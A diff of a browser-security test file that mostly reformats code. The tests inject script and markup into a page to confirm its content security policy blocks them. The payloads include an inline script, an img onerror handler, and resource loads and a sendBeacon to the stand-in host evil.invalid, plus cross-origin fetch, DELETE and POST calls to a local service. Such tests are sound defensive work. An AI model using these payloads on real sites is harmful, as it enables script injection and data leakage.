@@ -1,5 +1,4 @@
-"""The page in a real browser: its policy holds, whatever gets into it, and nothing that a photo is
-called becomes markup."""
+"""The page in a real browser: its policy holds, and the name of a photo never becomes markup."""
 
 import pytest
 from page.conftest import started_chromium
@@ -8,10 +7,12 @@ from served import serve
 from hardening.conftest import PHOTO
 
 NOWHERE = "--host-resolver-rules=MAP evil.invalid 127.0.0.1:1"
-# Each tries to run something, or to reach another host; the policy is to forbid all of them.
+# Each tries to run something, or to reach another host; the policy should forbid them all.
 ATTEMPTS = """async () => {
   const broken = [];
-  document.addEventListener('securitypolicyviolation', (event) => broken.push(event.effectiveDirective));
+  document.addEventListener('securitypolicyviolation', (event) => {
+    broken.push(event.effectiveDirective);
+  });
   const add = (name, change) => {
     const one = document.createElement(name);
     change(one);
@@ -20,7 +21,9 @@ ATTEMPTS = """async () => {
   add('script', (one) => { one.textContent = 'window.pwned = 1'; });
   add('script', (one) => { one.src = 'https://evil.invalid/x.js'; });
   add('script', (one) => { one.src = 'data:text/javascript,window.pwned=1'; });
-  add('div', (one) => { one.innerHTML = '<img src=x:y onerror="window.pwned = 1"><b style="color:red">x</b>'; });
+  add('div', (one) => {
+    one.innerHTML = '<img src=x:y onerror="window.pwned = 1"><b style="color:red">x</b>';
+  });
   add('img', (one) => { one.src = 'https://evil.invalid/pixel.gif'; });
   add('iframe', (one) => { one.src = 'https://evil.invalid/'; });
   add('object', (one) => { one.data = 'https://evil.invalid/'; });
@@ -36,7 +39,10 @@ ATTEMPTS = """async () => {
   }
   navigator.sendBeacon('https://evil.invalid/', 'x');
   await new Promise((done) => setTimeout(done, 300));
-  return {broken: [...new Set(broken)].sort(), pwned: 'pwned' in window, base: document.baseURI, here: location.href};
+  return {
+    broken: [...new Set(broken)].sort(), pwned: 'pwned' in window,
+    base: document.baseURI, here: location.href,
+  };
 }"""
 MUST_BREAK = {
     "base-uri",
@@ -108,10 +114,15 @@ def test_a_page_of_another_site_cannot_use_a_service_on_this_machine(browser, se
         """async (url) => {
       const said = {};
       try { await fetch(url + '/models'); said.read = true; } catch { said.read = false; }
-      try { await fetch(url + '/v1/jobs', {method: 'DELETE'}); said.del = true; } catch { said.del = false; }
+      try {
+        await fetch(url + '/v1/jobs', {method: 'DELETE'});
+        said.del = true;
+      } catch { said.del = false; }
       const form = new FormData();
       form.append('image', new Blob(['x']), 'x.jpg');
-      try { await fetch(url + '/v1/jobs', {method: 'POST', mode: 'no-cors', body: form}); } catch { /* blocked sooner */ }
+      try {
+        await fetch(url + '/v1/jobs', {method: 'POST', mode: 'no-cors', body: form});
+      } catch { /* blocked sooner */ }
       return said;
     }""",
         served.url,
